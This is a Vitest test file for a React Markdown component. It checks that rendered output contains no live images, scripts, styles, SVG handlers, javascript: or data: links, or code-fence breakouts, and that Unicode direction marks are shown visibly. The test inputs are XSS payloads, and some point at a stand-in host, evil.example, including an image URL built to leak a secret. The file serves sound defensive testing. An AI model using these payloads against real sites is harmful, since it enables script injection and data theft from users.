import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { Markdown } from './markdown.tsx'

const draw = (text: string, partial = false) =>
  renderToStaticMarkup(<Markdown text={text} partial={partial} />)
const textOf = (html: string) => html.replace(/<[^>]+>/g, '')

describe('Markdown', () => {
  test.each([
    '![x](http://evil.example/p.png?secret)',
    '![x][r]\n\n[r]: http://evil.example/p.png',
    '<img src=http://evil.example/p.png>',
    '<script>alert(1)</script>',
    '<style>@import "http://evil.example"</style>',
    '[x](javascript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](//evil.example)',
    '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
    '<svg onload=alert(1)>',
    '```\n</code></pre><img src=x onerror=alert(1)>\n```',
  ])('makes nothing of %s that runs or fetches', (text) => {
    const html = draw(text)
    // Attributes of real elements only: what was typed as markup has become text.
    expect(html).not.toMatch(/<(?:img|script|style|svg|iframe|object|link)\b/i)
    expect(html).not.toMatch(/<[^>]+\s(?:src|on\w+|style)=/i)
    expect(html).not.toMatch(/href="(?!https?:)/i)
  })

  test('shows where a link goes, and opens it without a word to it', () => {
    const html = draw('[the bank](https://evil.example/bank)')
    expect(textOf(html)).toContain('(evil.example)')
    expect(html).toContain('rel="noopener noreferrer"')
    expect(html).toContain('target="_blank"')
  })

  test('shows direction marks', () => expect(textOf(draw('run \u202egpj.sh'))).toContain('⟨U+202E⟩'))

  test('flashes no marker at any point of half-typed text', () => {
    const text =
      'Say **bold** and `code` and *thin* ~~gone~~ now.\n\n- one **x**\n- two\n\n1. first\n2. second\n\n## Head\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```sh\nls -la\n```\n\nSee [the book](https://x.example/y) and ![pic](https://x.example/p.png) end.\n'
    for (let end = 1; end <= text.length; end += 1) {
      const shown = textOf(draw(text.slice(0, end), true)).replace('ls -la', '')
      expect(shown, text.slice(0, end)).not.toMatch(/\*|`|~~|\]\(|\||^#|---/)
    }
  })
})
